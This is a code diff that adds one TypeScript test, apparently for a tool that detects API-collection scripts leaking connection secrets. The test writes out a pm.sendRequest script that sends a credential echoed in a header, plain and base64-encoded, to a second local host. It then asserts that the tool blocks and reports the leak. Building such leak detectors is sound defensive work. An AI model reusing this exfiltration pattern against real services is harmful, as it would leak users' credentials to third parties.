@@ -717,3 +717,29 @@ test('a test that fails over a wrong request which the service takes is a fault 
   );
   t.deepEqual(faults, ['service']);
 });
+
+test('a credential that a service repeats leaves by no host that the contract names, unless the collection was given it', async (t) => {
+  const got: string[] = [];
+  await using elsewhere = await serverOf((incoming, response) => {
+    got.push(incoming.url ?? '');
+    response.end();
+  });
+  const ask = (path: string, value: string) => `pm.sendRequest('${elsewhere.url}/${path}?v=' + ${value}, () => {});`;
+  const key = 'pm.response.headers.get("x-echo")';
+  const after = ask('plain', `encodeURIComponent(${key})`) + ask('base64', `encodeURIComponent(btoa(${key}))`) + ask('other', '"1"');
+  const setup = {
+    items: [scripted(request('one', 'GET', `${BASE}/things`), { after })],
+    answer: (incoming: IncomingMessage, response: ServerResponse) => {
+      response.setHeader('content-type', 'application/json').setHeader('x-echo', keyOf(incoming)).end('{"id":1}');
+    },
+  };
+  const hosts = `hosts: ['${new URL(elsewhere.url).host}']`;
+  const paths = () => got.splice(0).map((url) => url.split('?')[0]);
+  const outcome = await replay(t, { ...setup, entry: [hosts] });
+  t.deepEqual(paths(), ['/other']);
+  const overreach = found(outcome).filter((text) => text.startsWith('collection-overreach'));
+  t.is(overreach.length, 1, overreach.join('\n'));
+  t.regex(overreach[0] ?? '', /sends a secret of the connection to 127\.0\.0\.1/);
+  await replay(t, { ...setup, entry: [hosts, 'variables: { mine: "${SHELF_KEY}" }'] });
+  t.deepEqual(paths().toSorted(), ['/base64', '/other', '/plain']);
+});
